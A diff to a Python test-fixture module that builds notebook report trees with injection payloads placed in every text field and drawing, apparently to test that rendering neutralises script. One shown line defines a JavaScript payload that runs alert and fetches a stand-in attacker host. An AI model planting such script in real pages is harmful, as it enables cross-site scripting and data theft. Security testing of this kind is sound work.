@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from nbformat import NotebookNode
 
-from .reports import SVG, block, figure, prose, report, shown, table
+from .reports import SVG, block, figure, png, prose, report, shown, table, tree
 
 FIRE = "window.fired=1;alert(1);fetch('http://attacker.invalid/x')"
 PAYLOADS = (
@@ -73,6 +73,41 @@ def cells(payload: str) -> list[NotebookNode]:
             }
         ),
     ]
+
+
+def hostile_trees() -> NotebookNode:
+    """A report with every payload in every field of a tree, at two nodes of it."""
+    return report(*(hostile_tree(payload) for payload in PAYLOADS), tree_of_pages())
+
+
+def hostile_tree(payload: str) -> NotebookNode:
+    """A tree that says nothing but one payload."""
+    said = dict.fromkeys(("text", "label", "unit", "owner", "type", "through"), payload)
+    one = {**said, "id": payload, "parent": payload, "level": "company", "status": "confirmed", "krs": []}
+    two = {
+        **said,
+        "id": payload + "2",
+        "parent": payload,
+        "level": payload,
+        "status": payload,
+        "refs": [{"id": payload, "key_result": "", "status": payload}, {"id": "x", "key_result": payload}],
+        "krs": [{"id": payload, "text": payload}],
+    }
+    names = ("search", "expand", "collapse", "results", "keys", "refs", "through", "below", "legend")
+    labels = {
+        **dict.fromkeys(names, payload),
+        "status": {"confirmed": payload, payload: payload},
+        "marks": {"confirmed": payload},
+    }
+    titled = dict.fromkeys(("title", "subtitle", "note", "source"), payload)
+    drawn = [{"title": payload, "alt": payload, "svg": SVG, "png": ""}]
+    return tree(one, two, labels=labels, drawn=drawn, **titled)
+
+
+def tree_of_pages() -> NotebookNode:
+    """A tree whose drawings try to act: they are left out for pixels, as those of figures are."""
+    pages = [{"title": "x", "alt": PAYLOADS[4], "svg": svg, "png": png()} for svg in DRAWINGS]
+    return tree({"id": "a", "level": "company", "text": "a"}, drawn=pages)
 
 
 def hostile() -> NotebookNode:
